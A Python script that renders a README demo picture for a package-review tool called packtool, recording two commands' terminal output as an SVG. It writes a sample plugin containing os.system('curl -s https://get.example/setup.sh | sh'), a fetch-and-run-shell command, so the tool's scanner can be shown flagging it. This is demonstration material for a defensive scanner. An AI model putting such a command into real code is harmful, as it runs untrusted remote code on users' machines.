"""Record the README's picture: two commands at a terminal of 80 columns, as docs/picture.svg. ``--check`` compares."""

from __future__ import annotations

import argparse
import os
import re
import shlex
import shutil
import subprocess
import sys
import tempfile
from html import escape
from itertools import groupby
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pyte

if TYPE_CHECKING:
    from collections.abc import Iterator

ROOT = Path(__file__).resolve().parents[1]
PICTURE = Path(__file__).with_name("picture.svg")
PROGRAM = str(Path(sys.executable).with_name("packtool"))
HASTY = "\nimport os\n\nos.system('curl -s https://get.example/setup.sh | sh')\n"
# What is typed, and which lines of what is printed are shown; the rest is an ellipsis.
SHOWN = (
    ("packtool pack show hermes-pack.yaml --index index.json --mirror repositories", slice(0, 27)),
    ("packtool scan hasty", slice(0, 18)),
)
COLUMNS, ROWS = 80, 400
WIDE, HIGH, EDGE, TOP = 8.4, 18, 18, 46
# A review tells how old a commit is: the picture is of one day.
_AGE = re.compile(r"\d+ days old")
_FONT = "ui-monospace,SFMono-Regular,Menlo,Consolas,'DejaVu Sans Mono',monospace"
_STYLE = (
    f"text{{font:14px {_FONT};fill:#d8dee9;white-space:pre}}"
    ".b{font-weight:700}.red{fill:#ff8a94}.green{fill:#8fd694}.brown{fill:#f0c674}.cyan{fill:#7fd1de}.magenta{fill:#d9a0f0}"
    ".typed{fill:#fff;font-weight:700}.dim{fill:#9aa5b8}"
)


def recorded() -> list[list[tuple[int, str, str]]]:
    """Return the lines of the picture, each as runs of (column, class, words)."""
    lines: list[list[tuple[int, str, str]]] = []
    with tempfile.TemporaryDirectory() as scratch:
        folder = Path(scratch) / "examples"
        shutil.copytree(ROOT / "examples", folder)
        _printed("packtool init plugin hasty", folder)
        with (folder / "hasty" / "__init__.py").open("a", encoding="utf-8") as file:
            file.write(HASTY)
        for command, part in SHOWN:
            seen = list(_seen(_AGE.sub("29 days old", _printed(command, folder))))
            lines += [[(0, "dim", "$ "), (2, "typed", command)], *seen[part]]
            lines += [[(0, "dim", "…")], []] if len(seen) > part.stop else [[]]
    return lines[:-1]


def _printed(command: str, folder: Path) -> str:
    """Return what a command prints in colour. Raises RuntimeError where it reaches no verdict."""
    env = {**os.environ, "HOME": str(folder), "HERMES_HOME": str(folder / "home"), "COLUMNS": str(COLUMNS)}
    env = {name: value for name, value in env.items() if name != "NO_COLOR"} | {"FORCE_COLOR": "1", "TERM": "xterm"}
    words = [PROGRAM, *shlex.split(command)[1:]]
    done = subprocess.run(words, cwd=folder, env=env, capture_output=True, text=True, check=False)
    if done.returncode not in {0, 1}:
        raise RuntimeError(done.stdout + done.stderr)
    return done.stdout


def _seen(text: str) -> Iterator[list[tuple[int, str, str]]]:
    """Yield what a terminal shows of a text, line by line, as runs of one look."""
    screen = pyte.Screen(COLUMNS + 1, ROWS)
    pyte.Stream(screen).feed(text.replace("\n", "\r\n"))
    for row in range(screen.cursor.y):
        cells = [screen.buffer[row][column] for column in range(COLUMNS)]
        runs = []
        for look, group in groupby(enumerate(cells), key=lambda cell: _look(cell[1])):
            members = list(group)
            words = "".join(cell.data for _, cell in members)
            if words.strip():
                runs.append((members[0][0], look, words.rstrip()))
        yield runs


def _look(cell: Any) -> str:
    color = "" if cell.fg == "default" else str(cell.fg)
    return " ".join(filter(None, ("b" if cell.bold else "", color)))


def drawn(lines: list[list[tuple[int, str, str]]]) -> str:
    """Return the picture: a window, and a text for each run. It names no font or file that would be fetched."""
    width, height = round(COLUMNS * WIDE + 2 * EDGE), TOP + len(lines) * HIGH + EDGE
    dots = "".join(
        f'<circle cx="{EDGE + 6 + 20 * number}" cy="20" r="6" fill="{color}"/>'
        for number, color in enumerate(("#ff5f57", "#febc2e", "#28c840"))
    )
    texts = [
        f'<text x="{EDGE + column * WIDE:.1f}" y="{TOP + number * HIGH + 12}" textLength="{len(words) * WIDE:.1f}"'
        + (f' class="{look}"' if look else "")
        + f">{escape(words, quote=False)}</text>"
        for number, runs in enumerate(lines)
        for column, look, words in runs
    ]
    head = f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {width} {height}" role="img" aria-labelledby="t">'
    title = '<title id="t">A terminal where packtool reviews a pack that passes, and scans a plugin that fails</title>'
    window = f'<rect width="{width}" height="{height}" rx="10" fill="#1e2430"/>{dots}'
    return "\n".join([head, title, f"<style>{_STYLE}</style>", window, *texts, "</svg>\n"])


def main() -> int:
    """Write or check the picture; returns the exit code."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--check", action="store_true", help="change nothing; exit 1 when the picture is stale")
    check = parser.parse_args().check
    picture = drawn(recorded())
    if not check:
        PICTURE.write_text(picture, encoding="utf-8")
    elif not PICTURE.is_file() or PICTURE.read_text(encoding="utf-8") != picture:
        sys.stdout.write("stale: docs/picture.svg; run `make picture`\n")
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
